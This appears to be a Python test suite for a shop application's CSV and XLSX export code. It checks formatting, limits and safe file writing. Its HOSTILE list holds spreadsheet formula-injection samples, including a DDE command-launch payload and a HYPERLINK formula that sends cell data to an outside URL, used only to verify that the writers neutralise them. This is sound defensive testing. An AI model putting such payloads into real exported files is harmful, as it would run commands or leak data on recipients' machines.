"""Tables as files: what is read back is what was written, and no cell does anything but stand there."""

from __future__ import annotations

import csv
import errno
import io
import os
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from datetime import date, datetime, timezone
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell as ReadCell
from openpyxl.utils.escape import unescape

from shop.documents import spreadsheet, whole_file
from shop.documents.spreadsheet import Cell, Scaled, amount, inert, percent, price, quantity
from shop.rules.errors import BadInput

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x01=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u22121",
)
QUOTED = (
    'a "quoted" word',
    "comma, there",
    "two\nlines",
    "semi;colon",
    "'apostrophe",
    "http://example.org",
    "",
)
STRANGE = (
    "_x0041_",
    "<r><t>raw</t></r>",
    "<b>&amp;</b>",
    "Žluťoučký kůň 日本語 عربى 🫖",
    " blanks ",
    "0012",
    "1e5",
    "TRUE",
)

Writer = Callable[[Path, list[str], list[list[Cell]]], object]


def as_csv(path: Path, headings: list[str], rows: list[list[Cell]]) -> object:
    return spreadsheet.write_csv(path, headings, rows)


def as_xlsx(path: Path, headings: list[str], rows: list[list[Cell]]) -> object:
    return spreadsheet.write_xlsx(path, "Sales", headings, rows)


WRITERS = pytest.mark.parametrize(("writer", "name"), [(as_csv, "t.csv"), (as_xlsx, "t.xlsx")])


def csv_rows(path: Path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def sheet(path: Path) -> list[tuple[ReadCell, ...]]:
    book = load_workbook(path)
    return list(book.worksheets[0].iter_rows())  # type: ignore[arg-type]


def xlsx_values(path: Path) -> list[list[object]]:
    return [[cell.value for cell in row] for row in sheet(path)]


# Inert cells ------------------------------------------------------------------------------------------------------


def test_text_that_begins_like_a_formula_has_an_apostrophe_in_a_csv_file(tmp_path: Path) -> None:
    path = tmp_path / "hostile.csv"
    spreadsheet.write_csv(path, ["=heading"], [[text] for text in HOSTILE])
    heading, *rows = csv_rows(path)
    assert heading == ["'=heading"]
    for (cell,), text in zip(rows, HOSTILE, strict=True):
        assert cell == "'" + text.replace("\x01", "")


def test_text_that_begins_like_a_formula_is_a_string_in_a_sheet(tmp_path: Path) -> None:
    path = tmp_path / "hostile.xlsx"
    spreadsheet.write_xlsx(path, "x", ["=heading"], [[text] for text in HOSTILE])
    heading, *rows = sheet(path)
    assert (heading[0].value, heading[0].data_type) == ("=heading", "s")
    for (cell,), text in zip(rows, HOSTILE, strict=True):
        assert cell.data_type == "s"
        assert cell.value == text.replace("\x01", "").replace("\r", "\n")
        assert cell.hyperlink is None
        assert cell.quotePrefix
    with zipfile.ZipFile(path) as pack:
        names = pack.namelist()
        page = pack.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in page
    assert "<f " not in page
    assert not [name for name in names if "rels" in name and "sheet" in name]


def test_numbers_stay_numbers_though_they_begin_with_a_minus(tmp_path: Path) -> None:
    rows: list[list[Cell]] = [[amount(-1270, 2), -5, Decimal("-0.125"), quantity(-1500)]]
    as_csv(tmp_path / "t.csv", ["a", "b", "c", "d"], rows)
    as_xlsx(tmp_path / "t.xlsx", ["a", "b", "c", "d"], rows)
    assert csv_rows(tmp_path / "t.csv")[1] == ["-12.70", "-5", "-0.125", "-1.5"]
    assert xlsx_values(tmp_path / "t.xlsx")[1] == [-12.7, -5, -0.125, -1.5]


def test_a_text_of_digits_stays_text_in_a_sheet(tmp_path: Path) -> None:
    as_xlsx(tmp_path / "t.xlsx", ["barcode"], [["05012345678900"]])
    cell = sheet(tmp_path / "t.xlsx")[1][0]
    assert (cell.value, cell.data_type) == ("05012345678900", "s")


@settings(deadline=None)
@given(st.text(max_size=40) | st.text("=+-@ \t\n\r\u200b\x01＝A1", max_size=6))
def test_no_text_begins_like_a_formula_and_only_an_apostrophe_is_ever_added(text: str) -> None:
    made = inert(text)
    assert made in (clean := spreadsheet._FORBIDDEN.sub("", text), "'" + clean)
    assert made.lstrip("\u200b\t\r\n ")[:1] not in tuple("=+-@＝＋－＠")


# What is read back ------------------------------------------------------------------------------------------------


def test_texts_are_read_back_from_a_csv_file_as_they_were(tmp_path: Path) -> None:
    texts = [*QUOTED, *STRANGE]
    spreadsheet.write_csv(tmp_path / "t.csv", ["one", "two"], [[text, "x"] for text in texts])
    assert csv_rows(tmp_path / "t.csv")[1:] == [[text, "x"] for text in texts]


def test_texts_are_read_back_from_a_sheet_as_they_were(tmp_path: Path) -> None:
    texts = [text for text in (*QUOTED, *STRANGE) if text]
    as_xlsx(tmp_path / "t.xlsx", ["one"], [[text] for text in texts])
    # The reader leaves to its caller what the format says of _xHHHH_ in a text.
    read = [unescape(str(row[0])) for row in xlsx_values(tmp_path / "t.xlsx")[1:]]
    # A text that looks like the writer's own markup gets a blank before it and stays a text.
    assert read == [" " + text if text.startswith("<r>") else text for text in texts]


def test_every_kind_of_cell_is_written_as_what_it_is(tmp_path: Path) -> None:
    moment = datetime(2026, 3, 2, 8, 5, 9, 123456, tzinfo=timezone.utc)
    rows: list[list[Cell]] = [
        [
            amount(127_000, 2),
            amount(7, 0),
            price(12_345, 2),
            price(10_000, 2),
            quantity(3_000),
            percent(135_000),
        ],
        [None, "", date(2026, 3, 2), moment, date(1850, 1, 1), Decimal("1E+3")],
    ]
    headings = ["a", "b", "c", "d", "e", "f"]
    as_csv(tmp_path / "t.csv", headings, rows)
    as_xlsx(tmp_path / "t.xlsx", headings, rows)
    assert csv_rows(tmp_path / "t.csv")[1:] == [
        ["1270.00", "7", "1.2345", "1.00", "3", "13.5"],
        ["", "", "2026-03-02", "2026-03-02 08:05:09", "1850-01-01", "1000"],
    ]
    _headings, numbers, others = sheet(tmp_path / "t.xlsx")
    assert [cell.value for cell in numbers] == [1270, 7, 1.2345, 1, 3, 13.5]
    assert [cell.number_format for cell in numbers] == [
        "#,##0.00",
        "General",
        "#,##0.00##",
        "#,##0.00##",
        "General",
        "General",
    ]
    assert [cell.value for cell in others] == [
        None,
        None,
        datetime(2026, 3, 2),  # noqa: DTZ001 (as a sheet has it)
        datetime(2026, 3, 2, 8, 5, 9),  # noqa: DTZ001
        "1850-01-01",
        1000,
    ]
    assert [cell.number_format for cell in others[2:4]] == ["yyyy-mm-dd", "yyyy-mm-dd hh:mm:ss"]


def test_a_number_that_excel_would_change_is_text(tmp_path: Path) -> None:
    rows: list[list[Cell]] = [
        [Scaled(999_999_999_999_999, 2, 2)],
        [Scaled(1_234_567_890_123_456, 2, 2)],
        [10**20],
    ]
    as_xlsx(tmp_path / "t.xlsx", ["n"], rows)
    assert [row[0] for row in xlsx_values(tmp_path / "t.xlsx")[1:]] == [
        9_999_999_999_999.99,
        "12345678901234.56",
        10**20,
    ]


@settings(max_examples=8, deadline=None)
@given(st.lists(st.tuples(st.integers(-(10**15) + 1, 10**15 - 1), st.integers(0, 4)), max_size=30))
def test_an_amount_is_the_same_number_in_both_files(
    tmp_path_factory: pytest.TempPathFactory, numbers: list[tuple[int, int]]
) -> None:
    folder = tmp_path_factory.mktemp("same")
    rows: list[list[Cell]] = [[amount(*number)] for number in numbers]
    as_csv(folder / "t.csv", ["n"], rows)
    as_xlsx(folder / "t.xlsx", ["n"], rows)
    exact = [Decimal(value).scaleb(-digits) for value, digits in numbers]
    assert [Decimal(row[0]) for row in csv_rows(folder / "t.csv")[1:]] == exact
    assert [Decimal(repr(row[0])) for row in xlsx_values(folder / "t.xlsx")[1:]] == exact


def test_characters_that_xml_forbids_are_left_out(tmp_path: Path) -> None:
    text = "a\x00b\x0bc\ud800d\uffffe\x1ff"
    as_csv(tmp_path / "t.csv", ["x"], [[text]])
    as_xlsx(tmp_path / "t.xlsx", ["x"], [[text]])
    assert csv_rows(tmp_path / "t.csv")[1] == ["abcdef"]
    assert xlsx_values(tmp_path / "t.xlsx")[1] == ["abcdef"]


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Invoices", "Invoices"),
        ("a/b:c*d?[e]\\", "a b c d e"),
        ("'quoted'", "quoted"),
        ("History", "Sheet1"),
        ("", "Sheet1"),
        ("\x00", "Sheet1"),
        ("x" * 40, "x" * 31),
        ("🫖" * 20, "🫖" * 15),
    ],
)
def test_any_title_becomes_a_sheet_name_that_excel_takes(tmp_path: Path, title: str, name: str) -> None:
    spreadsheet.write_xlsx(tmp_path / "t.xlsx", title, ["a"], [["b"]])
    assert load_workbook(tmp_path / "t.xlsx").sheetnames == [name]


def test_headings_stay_in_sight_and_every_column_can_be_filtered(tmp_path: Path) -> None:
    as_xlsx(tmp_path / "t.xlsx", ["a", "b"], [["x", "y"], ["z", "w"]])
    page = load_workbook(tmp_path / "t.xlsx").worksheets[0]
    assert page.freeze_panes == "A2"
    assert page.auto_filter.ref == "A1:B3"


@WRITERS
def test_a_table_without_rows_has_its_headings(tmp_path: Path, writer: Writer, name: str) -> None:
    writer(tmp_path / name, ["a", "b"], [])
    read = csv_rows(tmp_path / name) if name.endswith("csv") else xlsx_values(tmp_path / name)
    assert read == [["a", "b"]]


# Too much ---------------------------------------------------------------------------------------------------------


def test_a_text_too_long_for_a_cell_is_cut_and_says_so(tmp_path: Path) -> None:
    rows: list[list[Cell]] = [["x" * 32_767], ["x" * 32_768], ["🫖" * 16_384]]
    written = spreadsheet.write_xlsx(tmp_path / "t.xlsx", "x", ["a"], rows)
    assert (written.rows, written.cut) == (3, 2)
    fits, cut, wide = (row[0] for row in xlsx_values(tmp_path / "t.xlsx")[1:])
    assert fits == "x" * 32_767
    for text in (cut, wide):
        assert isinstance(text, str)
        assert text.endswith(" … (cut: a cell holds no more)")
        assert len(text.encode("utf-16-le")) // 2 <= 32_767


def test_more_rows_than_a_sheet_has_are_refused_in_a_sentence(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(spreadsheet, "SHEET_ROWS", 11)
    as_xlsx(tmp_path / "fits.xlsx", ["n"], [[n] for n in range(10)])
    with pytest.raises(BadInput, match="more than 10 rows"):
        as_xlsx(tmp_path / "t.xlsx", ["n"], [[n] for n in range(11)])
    assert os.listdir(tmp_path) == ["fits.xlsx"]


@pytest.mark.parametrize("name", ["t.csv", "t.xlsx"])
def test_rows_are_written_as_they_come_and_never_kept(tmp_path: Path, name: str) -> None:
    def rows(count: int) -> Iterator[list[Cell]]:
        return ([f"Product {n}", n, amount(n, 2)] for n in range(count))

    def peak(count: int) -> int:
        tracemalloc.start()
        spreadsheet.write_table(tmp_path / name, "x", ["a", "b", "c"], rows(count), replace=True)
        most = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return most

    peak(10)
    few, many = peak(300), peak(2_000)
    assert many < few + 60_000


# Whole or not at all ----------------------------------------------------------------------------------------------


@WRITERS
def test_an_existing_file_is_asked_about_and_stays(tmp_path: Path, writer: Writer, name: str) -> None:
    (tmp_path / name).write_bytes(b"mine")
    with pytest.raises(spreadsheet.FileIsThere, match="Replace it"):
        writer(tmp_path / name, ["a"], [])
    assert (tmp_path / name).read_bytes() == b"mine"
    spreadsheet.write_table(tmp_path / name, "x", ["a"], [], replace=True)
    assert (tmp_path / name).read_bytes() != b"mine"
    assert os.listdir(tmp_path) == [name]


@pytest.mark.parametrize("name", ["t.csv", "t.xlsx"])
def test_rows_that_break_off_leave_the_old_file_and_nothing_else(tmp_path: Path, name: str) -> None:
    class Cancelled(Exception):
        pass

    def rows() -> Iterator[list[Cell]]:
        for n in range(2_000):
            yield [n]
        raise Cancelled

    (tmp_path / name).write_bytes(b"mine")
    with pytest.raises(Cancelled):
        spreadsheet.write_table(tmp_path / name, "x", ["a"], rows(), replace=True)
    assert (tmp_path / name).read_bytes() == b"mine"
    assert os.listdir(tmp_path) == [name]


@pytest.mark.parametrize("name", ["t.csv", "t.xlsx"])
@pytest.mark.parametrize(
    ("number", "sentence"),
    [
        (errno.ENOSPC, "Make room"),
        (errno.EACCES, "You may not write"),
        (errno.EROFS, "You may not write"),
        (errno.EIO, "can't be written"),
    ],
)
def test_what_stands_in_the_way_is_a_sentence(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, number: int, sentence: str
) -> None:
    def refuse(_number: int) -> None:
        raise OSError(number, os.strerror(number))

    monkeypatch.setattr(whole_file.os, "fsync", refuse)
    with pytest.raises(BadInput, match=sentence) as refused:
        spreadsheet.write_table(tmp_path / name, "x", ["a"], [["b"]])
    assert refused.value.field == "path"
    assert os.listdir(tmp_path) == []


def test_a_file_that_excel_holds_open_is_a_sentence(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "t.csv"
    path.write_bytes(b"mine")

    def refuse(_old: object, _new: object) -> None:
        error = PermissionError(errno.EACCES, "in use")
        error.winerror = 32  # type: ignore[attr-defined,unused-ignore]
        raise error

    monkeypatch.setattr(whole_file.os, "replace", refuse)
    with pytest.raises(BadInput, match="open in another program"):
        spreadsheet.write_csv(path, ["a"], [], replace=True)
    assert path.read_bytes() == b"mine"
    assert os.listdir(tmp_path) == ["t.csv"]


@pytest.mark.parametrize("name", ["missing/t.csv", "t\x00.csv", "\ud800.csv", "n" * 300 + ".csv", "folder"])
def test_a_name_that_can_not_be_is_a_sentence(tmp_path: Path, name: str) -> None:
    (tmp_path / "folder").mkdir()
    with pytest.raises(BadInput) as refused:
        spreadsheet.write_csv(tmp_path / name, ["a"], [])
    assert refused.value.field == "path"
    assert os.listdir(tmp_path) == ["folder"]


def test_any_other_ending_is_refused(tmp_path: Path) -> None:
    with pytest.raises(BadInput, match=r"\.csv or \.xlsx"):
        spreadsheet.write_table(tmp_path / "t.ods", "x", ["a"], [])
